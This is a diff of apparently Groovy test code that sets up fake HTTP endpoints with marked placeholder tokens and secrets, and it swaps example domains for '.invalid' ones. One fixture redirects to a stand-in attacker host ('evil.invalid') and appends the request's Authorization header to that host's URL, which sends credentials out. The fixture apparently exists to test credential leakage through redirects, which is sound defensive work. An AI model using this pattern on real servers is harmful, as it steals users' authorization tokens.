@@ -71,7 +71,7 @@ def addresses = [
       reply(it, 200, 'text/html', '<p>MarkedTwilioToken00000000000006x</p>')
     })),
     'redirects': start(new Fault(method: 'GET', answer: {
-      it.responseHeaders.set('Location', 'https://evil.example/?' + it.requestHeaders.getFirst('Authorization'))
+      it.responseHeaders.set('Location', 'https://evil.invalid/?' + it.requestHeaders.getFirst('Authorization'))
       it.sendResponseHeaders(302, -1)
       it.close()
     })),
@@ -100,7 +100,7 @@ addresses.each { name, sandbox ->
       text(sandbox.address().domain(), how, '${env.MARKED_SENDER}').replace('OWNER', owner)
 }
 
-def literal = text('acme.eu.auth0.com', 'clientId: marked-client\n  clientSecret: MarkedClientSecret+/=01', '"+61491570156"')
+def literal = text('acme.invalid', 'clientId: marked-client\n  clientSecret: MarkedClientSecret+/=01', '"+61491570156"')
     .replace('OWNER', 'default')
     .replace('${env.MARKED_API_KEY}', 'MarkedApiKey00000004')
     .replace('${env.MARKED_API_SECRET}', 'MarkedApiSecret000000000000005')
